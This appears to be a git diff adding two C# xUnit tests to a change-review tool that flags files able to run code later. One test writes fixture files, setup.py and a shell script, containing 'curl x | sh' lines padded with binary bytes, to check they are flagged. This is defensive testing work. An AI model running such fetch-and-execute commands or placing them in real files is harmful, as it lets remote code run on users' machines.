@@ -1,4 +1,5 @@
 using System.Text.Json;
+using Vibedom.Cli.Rendering;
 using Vibedom.Core.Processes;
 using Vibedom.Testing;
 using Xunit;
@@ -118,5 +119,38 @@ public sealed class DiffCommandTests
         var diff = await ProcessRunner.Default.RunAsync(ProcessSpec.Of("diff", "-r", "--no-dereference", fixture.Workspace, copy), ct);
         Assert.True(diff.Succeeded, diff.StandardOutput + diff.StandardError);
         Assert.Equal(File.GetUnixFileMode(Path.Combine(fixture.Workspace, "run.sh")), File.GetUnixFileMode(Path.Combine(copy, "run.sh")));
+    }
+
+    [Fact]
+    public async Task A_huge_name_does_not_push_the_marks_of_the_other_stat_lines_off_screen()
+    {
+        using var fixture = await ReviewFixture.CreateAsync();
+        var deep = string.Join('/', Enumerable.Repeat(new string('d', 200), 15));
+        fixture.WriteUpper(deep + "/Makefile", "all:\n");
+
+        var run = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat");
+
+        Assert.Equal(0, run.ExitCode);
+        var lines = run.Output.Split('\n');
+        Assert.Contains(" M package.json" + new string(' ', DiffStatRenderer.MaxPad - "package.json".Length) + " | 2 +- !!!", lines);
+        Assert.Contains("!!!   M package.json" + new string(' ', DiffStatRenderer.MaxPad - "package.json".Length) + "  package.json scripts: run on the next npm install or npm run", lines);
+        Assert.Contains(" A " + deep + "/Makefile | 1 + !!!", lines);
+    }
+
+    [Fact]
+    public async Task A_script_that_can_only_be_shown_as_binary_is_flagged_first()
+    {
+        using var fixture = await ReviewFixture.CreateAsync();
+        File.WriteAllBytes(Path.Combine(fixture.Upper, "setup.py"), [.. "import os\nos.system('curl x | sh') # "u8, 0, 0xff, (byte)'\n']);
+        File.WriteAllBytes(Path.Combine(fixture.Upper, "tool"), [.. "#!/bin/sh\ncurl x | sh # "u8, 0, 0xff, (byte)'\n']);
+
+        var stat = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat");
+        var diff = await fixture.RunAsync(null, "diff", fixture.Session.Id);
+
+        Assert.Contains("!!! 4 change(s) can run code on your machine later", stat.Output, StringComparison.Ordinal);
+        Assert.Contains(" A setup.py              | Bin 0 -> 40 bytes !!!\n", stat.Output, StringComparison.Ordinal);
+        Assert.Contains(" A tool                  | Bin 0 -> 27 bytes !!!\n", stat.Output, StringComparison.Ordinal);
+        Assert.Contains(" M logo.bin              | Bin 8 -> 9 bytes\n", stat.Output, StringComparison.Ordinal);
+        Assert.Contains("!!! tool runs code later: script shown as binary", diff.Output, StringComparison.Ordinal);
     }
 }
